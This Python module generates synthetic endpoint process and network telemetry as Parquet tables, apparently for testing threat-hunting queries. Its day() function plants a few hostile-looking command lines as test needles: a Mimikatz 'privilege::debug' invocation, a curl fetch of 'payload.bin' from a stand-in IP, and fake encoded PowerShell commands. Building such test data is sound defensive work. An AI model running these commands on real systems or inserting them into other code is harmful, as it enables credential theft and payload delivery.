"""Made-up endpoint telemetry as Parquet, the same for the same arguments.

`write(folder, rows)` makes two hunting tables of `rows` rows each, one file a day over 30 days, and a
list of 5,000 hashes. Programs, devices and users are drawn by Zipf's law, as in a real fleet: few
programs make most of the events, and every fourth command line is unique.
"""
import hashlib
import json
import os

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

DAYS = 30
DEVICES = 5_000
PROGRAMS = 12_000
COMMANDS = 120_000
START = np.datetime64("2026-06-01T00:00:00", "us")
NAMES = (
    "services.exe browser.exe mailer.exe shell.exe powershell.exe cmd.exe editor.exe updater.exe "
    "indexer.exe printer.exe sync.exe backup.exe python3 bash sshd cron curl java node postgres"
).split()
WORDS = "report invoice cache session worker policy archive metric index ledger mirror queue".split()


def digest(text, length=64):
    return hashlib.sha256(text.encode()).hexdigest()[:length]


def zipf(random, rows, choices, exponent):
    weights = np.cumsum(1.0 / np.arange(1, choices + 1) ** exponent)
    return np.searchsorted(weights / weights[-1], random.random(rows))


def program_name(at):
    return NAMES[at] if at < len(NAMES) else f"{WORDS[at % 12]}-{WORDS[at // 12 % 12]}-{at}.exe"


def command(at, random):
    program = program_name(min(int(at**0.8), PROGRAMS - 1))
    first, second = WORDS[random.integers(12)], WORDS[random.integers(12)]
    return [
        f'"C:\\Program Files\\{first}\\{program}" --{second} --channel={random.integers(1 << 30)}',
        f"{program} /run C:\\Users\\u{random.integers(4000)}\\{first}\\{second}.cmd",
        f"{program} -config /etc/{first}/{second}.conf -id {random.integers(1 << 20)}",
        f'"{program}" get https://{first}.example.com/{second}/{random.integers(999)}',
    ][at % 4]


def world():
    random = np.random.default_rng(3)
    return {
        "program": np.array([program_name(at) for at in range(PROGRAMS)], object),
        "sha256": np.array([digest(f"program {at}") for at in range(PROGRAMS)], object),
        "command": np.array([command(at, random) for at in range(COMMANDS)], object),
        "device": np.array([digest(f"device {at}", 40) for at in range(DEVICES)], object),
        "host": np.array([f"host-{at:05}.fleet.example.com" for at in range(DEVICES)], object),
        "ip": np.array(
            [".".join(map(str, random.integers(1, 255, 4))) for _ in range(30_000)], object
        ),
    }


def day(number, rows, made):
    random = np.random.default_rng([11, number])
    times = START + np.timedelta64(number, "D")
    times = times + np.sort(random.integers(0, 86_400_000_000, rows)).astype("timedelta64[us]")
    device = zipf(random, rows, DEVICES, 0.4)
    line = zipf(random, rows, COMMANDS, 1.0)
    program = np.minimum((line**0.8).astype(int), PROGRAMS - 1)
    process = random.integers(1, 20_000, rows)
    commands = made["command"][line].copy()
    unique = np.flatnonzero(random.random(rows) < 0.25)
    commands[unique] += np.array([f" --trace={at:032x}" for at in random.integers(0, 1 << 62, len(unique))], object)
    encoded = np.flatnonzero(random.random(rows) < 0.004)
    commands[encoded] = [f"powershell.exe -EncodedCommand {digest(str(at))}" for at in encoded]
    program[encoded] = NAMES.index("powershell.exe")
    few = random.choice(rows, max(2, rows // 50_000), replace=False)
    commands[few] = [
        ["tool.exe privilege::debug MimiKatz", "curl http://203.0.113.9/payload.bin"][at % 2]
        for at in range(len(few))
    ]
    names = made["program"][program].copy()
    rare = np.flatnonzero(random.random(rows) < 0.0002)
    names[rare] = [f"{digest(f'{number} {at}', 8)}.exe" for at in rare]
    sessions = np.array(["Console", "Services", "RDP-Tcp#3"], object)[zipf(random, rows, 3, 1.0)]
    more = [
        json.dumps({"Signer": WORDS[at % 12], "Session": {"Id": int(at % 7), "Name": name}, "Id": digest(str(at), 24)})
        for at, name in zip(random.integers(0, 4000, rows), sessions)
    ]
    users = np.array([f"u{at}" for at in range(4000)], object)[zipf(random, rows, 4000, 0.9)]
    parent = zipf(random, rows, COMMANDS, 1.1)
    processes = {
        "Timestamp": pa.array(times, pa.timestamp("us", "UTC")),
        "DeviceId": made["device"][device],
        "DeviceName": made["host"][device],
        "ActionType": np.where(random.random(rows) < 0.9, "ProcessCreated", "ProcessTerminated"),
        "FileName": names,
        "FolderPath": np.array([f"C:\\Program Files\\{word}" for word in WORDS], object)[program % 12],
        "SHA256": made["sha256"][program],
        "ProcessId": process,
        "ProcessCommandLine": commands,
        "AccountName": users,
        "InitiatingProcessId": random.integers(1, 20_000, rows),
        "InitiatingProcessFileName": made["program"][np.minimum(parent, PROGRAMS - 1)],
        "InitiatingProcessCommandLine": made["command"][parent],
        "ReportId": np.arange(rows),
        "AdditionalFields": more,
    }
    # Connections of the day's processes, within some minutes of their start.
    source = np.sort(random.integers(0, rows, rows))
    later = times[source] + random.exponential(150e6, rows).astype("timedelta64[us]")
    order = np.argsort(later, kind="stable")
    source, later = source[order], later[order]
    connections = {
        "Timestamp": pa.array(later, pa.timestamp("us", "UTC")),
        "DeviceId": made["device"][device[source]],
        "DeviceName": made["host"][device[source]],
        "ActionType": np.where(random.random(rows) < 0.8, "ConnectionSuccess", "ConnectionFailed"),
        "RemoteIP": made["ip"][zipf(random, rows, 30_000, 1.0)],
        "RemotePort": np.array([443, 80, 53, 445, 22, 8080])[zipf(random, rows, 6, 1.2)],
        "InitiatingProcessId": process[source],
        "InitiatingProcessFileName": names[source],
        "InitiatingProcessSHA256": made["sha256"][program[source]],
        "InitiatingProcessCommandLine": commands[source],
        "ReportId": np.arange(rows),
    }
    return {"DeviceProcessEvents": processes, "DeviceNetworkEvents": connections}


def write(folder, rows):
    made = world()
    for number in range(DAYS):
        for name, columns in day(number, rows // DAYS, made).items():
            os.makedirs(f"{folder}/{name}", exist_ok=True)
            path = f"{folder}/{name}/{number:02}.parquet"
            bloom = {"bloom_filter_options": {c: {} for c in columns if "SHA256" in c or c == "DeviceId"}}
            kept = dict(compression="zstd", compression_level=3, row_group_size=250_000)
            try:
                pq.write_table(pa.table(columns), path, write_page_index=True, **kept, **bloom)
            except TypeError:
                pq.write_table(pa.table(columns), path, write_page_index=True, **kept)
    wanted = [digest(f"unknown {at}") for at in range(4_900)] + list(made["sha256"][300:400])
    pq.write_table(pa.table({"SHA256": sorted(wanted)}), f"{folder}/wanted.parquet")
    return {"hash": made["sha256"][9_000], "device": made["device"][700], "wanted": sorted(wanted)}
